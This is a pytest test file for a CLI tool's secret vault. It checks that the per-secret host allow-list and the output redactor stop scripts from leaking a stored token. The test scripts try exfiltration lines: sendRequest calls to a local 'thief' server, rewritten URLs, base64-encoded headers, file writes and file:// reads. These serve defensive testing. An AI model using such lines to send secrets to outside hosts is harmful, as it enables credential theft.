"""Vault data-flow attacks through the real CLI: a script reads a secret and tries to get it out.

The vault holds ``token``, allowed only for 127.0.0.1. Each collection has an attack request
whose script tries one way out, then an ordinary request; a "thief" server listens on another
loopback address (127.0.0.2) and the recording server is also reachable as ``localhost`` (the
same socket under a host name the allow-list does not name). After each run: the thief saw no
byte of the secret, no output (stdout, stderr, JSON and JUnit reports, exported files) shows it,
no file appeared, and the second request still ran.

The sandbox cannot stop a script from reading a secret (``rq.vault.get`` reads any key,
``spec/vault.md``); what must stop the leak is the per-secret ``--allow-host`` list and the
redactor.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from support.build import api, folder, write_collection
from support.cli import CliResult, RunCli
from support.servers import RecordingServer

SECRET = "tok_9Qz7-exfil-canary-5521"
WATCHED = Path("/tmp/rqrun-vault-dataflow-target")


class Thief:
    """A server on 127.0.0.2 that records every raw request it gets (it should get none)."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib signature
                """Quiet."""

            def do_GET(self) -> None:  # noqa: N802 - stdlib name
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                owner.seen.append(self.requestline.encode() + b"\n" + bytes(self.headers) + body)
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_POST = do_GET  # noqa: N815

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.port = int(self.server.server_address[1])
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.2:{self.port}"


@pytest.fixture()
def thief() -> Iterator[Thief]:
    t = Thief()
    t.thread.start()
    yield t
    t.server.shutdown()
    t.server.server_close()


@pytest.fixture()
def vault_token(run_cli: RunCli) -> str:
    result = run_cli("vault", "set", "token", SECRET, "--allow-host", "127.0.0.1")
    assert result.code == 0, result
    return SECRET


def _attack(run_cli: RunCli, tmp_path: Path, server: RecordingServer, *, pre: str = "", post: str = "",
            extra: tuple[str, ...] = ()) -> CliResult:
    """Run [attack request with these scripts, an ordinary request]; every report format is on."""
    WATCHED.unlink(missing_ok=True)
    server.respond("/legit", body={"ok": True})
    server.respond("/after", body={"ok": True})
    collection = write_collection(
        tmp_path / "attack.json",
        folder("c", "Attack"),
        api("a", "Attack", "c", server.url + "/legit", pre=pre, post=post),
        api("b", "After", "c", server.url + "/after"),
    )
    return run_cli("run", collection, "--reporters", "cli,json,junit",
                   "--reporter-json-export", tmp_path / "r.json", "--reporter-junit-export", tmp_path / "r.xml",
                   *extra, timeout=60)


def _everything(result: CliResult, tmp_path: Path) -> str:
    texts = [result.stdout, result.stderr]
    texts += [p.read_text(encoding="utf-8", errors="replace") for p in sorted(tmp_path.glob("*")) if p.is_file()]
    return "\n".join(texts)


def _assert_refused(result: CliResult, to: str, *, confined: bool = False) -> None:
    """The attack failed with the allow-list's refusal naming the secret, its hosts and the
    refused host: a vault error, exit 5. ``confined``: refused because a script read the secret."""
    error = result.json["executions"][0]["error"]
    assert error is not None, result
    assert (error["type"], error["kind"]) == ("vault", "secret-not-allowed"), error
    if confined:
        assert "a script read secret 'token' (allowed only on 127.0.0.1)" in error["message"], error
    else:
        assert "secret 'token' may only be sent to 127.0.0.1;" in error["message"], error
    assert f" to {to} " in error["message"], error
    assert result.code == 5, result


def _assert_no_leak(result: CliResult, tmp_path: Path, server: RecordingServer, thief: Thief | None) -> None:
    """No secret in any output, none at the thief, no file, and the ordinary request went out."""
    everything = _everything(result, tmp_path)
    for form in (SECRET, base64.b64encode(SECRET.encode()).decode(), SECRET[::-1]):
        assert form not in everything, f"secret leaked into an output: {result!r}"
    if thief is not None:
        assert not any(SECRET.encode() in raw or SECRET[::-1].encode() in raw for raw in thief.seen), thief.seen
    for req in server.requests:
        if req.header("Host", ) and not req.header("Host").startswith("127.0.0.1"):  # type: ignore[union-attr]
            assert SECRET not in req.raw_path and SECRET not in req.text, req
            assert all(SECRET not in v for _, v in req.headers), req
    assert not WATCHED.exists()
    assert "/after" in server.requests.paths, "the run did not go on"
    assert "Traceback" not in result.output


# --- through {{vault:...}} placeholders: the allow-list sees them --------------------------------------

def test_send_request_with_a_placeholder_to_another_loopback_address(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, thief: Thief, vault_token: str
) -> None:
    pre = f'rq.sendRequest("{thief.url}/steal?k={{{{vault:token}}}}")'
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, thief)
    assert thief.seen == []
    error = result.json["executions"][0]["error"]
    assert error["type"] == "vault" and "may only be sent to 127.0.0.1" in error["message"], error
    assert result.code == 5, result


def test_send_request_with_a_placeholder_header_to_localhost(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, vault_token: str
) -> None:
    """``localhost`` is the same socket, but not the host the secret was allowed for."""
    port = recording_server.url.rsplit(":", 1)[1]
    pre = (f'rq.sendRequest({{"url": "http://localhost:{port}/steal", '
           f'"headers": {{"X-Key": "{{{{vault:token}}}}"}}}})')
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, None)
    assert "/steal" not in recording_server.requests.paths
    error = result.json["executions"][0]["error"]
    assert error["type"] == "vault" and "may only be sent to 127.0.0.1" in error["message"], error
    assert result.code == 5, result


def test_pre_request_script_points_the_request_elsewhere_with_a_placeholder(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, thief: Thief, vault_token: str
) -> None:
    pre = f'rq.request.url = "{thief.url}/steal?k={{{{vault:token}}}}"'
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, thief)
    assert thief.seen == []
    error = result.json["executions"][0]["error"]
    assert error["type"] == "vault" and "127.0.0.2" in error["message"], error
    assert result.code == 5, result


def test_placeholder_in_a_callback_request_from_a_post_response_script(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, thief: Thief, vault_token: str
) -> None:
    """The callback form hands the refusal to the script: the secret does not leave, the run goes on."""
    post = (f'def cb(err, res):\n    print("refused:", err) if err else print("sent")\n'
            f'rq.sendRequest("{thief.url}/steal?k={{{{vault:token}}}}", cb)')
    result = _attack(run_cli, tmp_path, recording_server, post=post)
    _assert_no_leak(result, tmp_path, recording_server, thief)
    assert thief.seen == []
    [line] = result.json["executions"][0]["console"]
    assert line.startswith("refused:") and "may only be sent to 127.0.0.1; this rq.sendRequest to 127.0.0.2" in line
    assert result.json["executions"][0]["error"]["type"] == "vault"  # caught or not, the attempt is reported
    assert result.code == 5, result


# --- through values the script read: the allow-list follows every key a script read --------------------------------



def test_send_request_with_a_value_read_from_the_vault(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, thief: Thief, vault_token: str
) -> None:
    pre = f'v = rq.vault.get("token")\nrq.sendRequest("{thief.url}/steal?k=" + v)'
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, thief)
    assert thief.seen == []
    _assert_refused(result, "127.0.0.2")
    assert result.json["executions"][0]["error"]["line"] == 2


def test_request_url_rewritten_with_a_value_read_from_the_vault(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, thief: Thief, vault_token: str
) -> None:
    pre = f'rq.request.url = "{thief.url}/steal?k=" + rq.vault.get("token")'
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, thief)
    assert thief.seen == []
    _assert_refused(result, "127.0.0.2")


def test_encoded_value_in_a_header_to_localhost(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, vault_token: str
) -> None:
    port = recording_server.url.rsplit(":", 1)[1]
    pre = ("import base64\n"
           'v = rq.vault.get("token")\n'
           f'rq.request.url = "http://localhost:{port}/steal"\n'
           'rq.request.headers.add({"key": "X-Data", "value": base64.b64encode(v.encode()).decode()})')
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, None)
    assert "/steal" not in recording_server.requests.paths
    _assert_refused(result, "localhost", confined=True)


# --- redaction of what scripts print, test and export ----------------------------------------------------

def test_printed_secret_is_masked(run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer,
                                  vault_token: str) -> None:
    pre = ('v = rq.vault.get("token")\n'
           'print("token is", v)\n'
           'console.log("again: " + v)\n'
           'print({"nested": [v]})')
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, None)
    assert result.code == 0, result
    console = result.json["executions"][0]["console"]
    assert console[0] == "token is ********" and console[1] == "again: ********", console
    assert "********" in console[2]
    assert "token is ********" in result.stdout


def test_secret_in_test_names_and_failure_messages_is_masked(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, vault_token: str
) -> None:
    post = ('v = rq.vault.get("token")\n'
            'rq.test("named " + v, lambda: rq.expect(v).to.equal("something else"))\n'
            'raise ValueError("boom " + v)')
    result = _attack(run_cli, tmp_path, recording_server, post=post)
    _assert_no_leak(result, tmp_path, recording_server, None)
    first = result.json["executions"][0]
    assert first["tests"][0]["name"] == "named ********" and first["tests"][0]["status"] == "failed"
    assert "********" in first["tests"][0]["error"]
    assert "boom ********" in first["error"]["message"]
    assert result.code == 4, result


def test_secret_copied_into_variables_is_masked_in_exports(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, vault_token: str
) -> None:
    pre = ('v = rq.vault.get("token")\n'
           'rq.environment.set("copied", v)\n'
           'rq.globals.set("copied_too", "prefix-" + v)\n'
           'rq.collectionVariables.set("third", v)')
    result = _attack(run_cli, tmp_path, recording_server, pre=pre,
                     extra=("--export-environment", str(tmp_path / "env-out.json"),
                            "--export-globals", str(tmp_path / "globals-out.json")))
    _assert_no_leak(result, tmp_path, recording_server, None)
    assert result.code == 0, result
    env = (tmp_path / "env-out.json").read_text(encoding="utf-8")
    glob = (tmp_path / "globals-out.json").read_text(encoding="utf-8")
    assert '"copied"' in env and "********" in env
    assert '"copied_too"' in glob and "prefix-********" in glob


def test_secret_written_to_a_file_path_or_the_vault_has_no_side_effect(
    run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer, vault_token: str
) -> None:
    """No way to a file from a script; writing the secret under a new vault key keeps it a secret."""
    pre = ('v = rq.vault.get("token")\n'
           'rq.vault.set("copy", v)\n'
           'print(rq.vault.get("copy"))\n'
           'try:\n'
           f'    open("{WATCHED}", "w").write(v)\n'
           'except Exception as e:\n'
           '    print("no file:", e)')
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    _assert_no_leak(result, tmp_path, recording_server, None)
    console = result.json["executions"][0]["console"]
    assert console[0] == "********" and console[1].startswith("no file:"), console
    assert result.code == 0, result


def test_send_request_cannot_read_local_files(run_cli: RunCli, tmp_path: Path, recording_server: RecordingServer,
                                             vault_token: str) -> None:
    """``file://`` (and other non-HTTP schemes) are refused by the parent: nothing is read, the run goes on."""
    planted = tmp_path / "local-secret.txt"
    planted.write_text("local-file-canary-7731", encoding="utf-8")
    pre = (f'r = rq.sendRequest("file://{planted}")\n'
           'print(r.text())')
    result = _attack(run_cli, tmp_path, recording_server, pre=pre)
    planted.unlink()  # _everything reads the files in tmp_path: the canary must not be among them
    _assert_no_leak(result, tmp_path, recording_server, None)
    assert "local-file-canary-7731" not in _everything(result, tmp_path)
    error = result.json["executions"][0]["error"]
    assert error["type"] == "script" and "file://" in error["message"], error
    assert result.code == 4, result
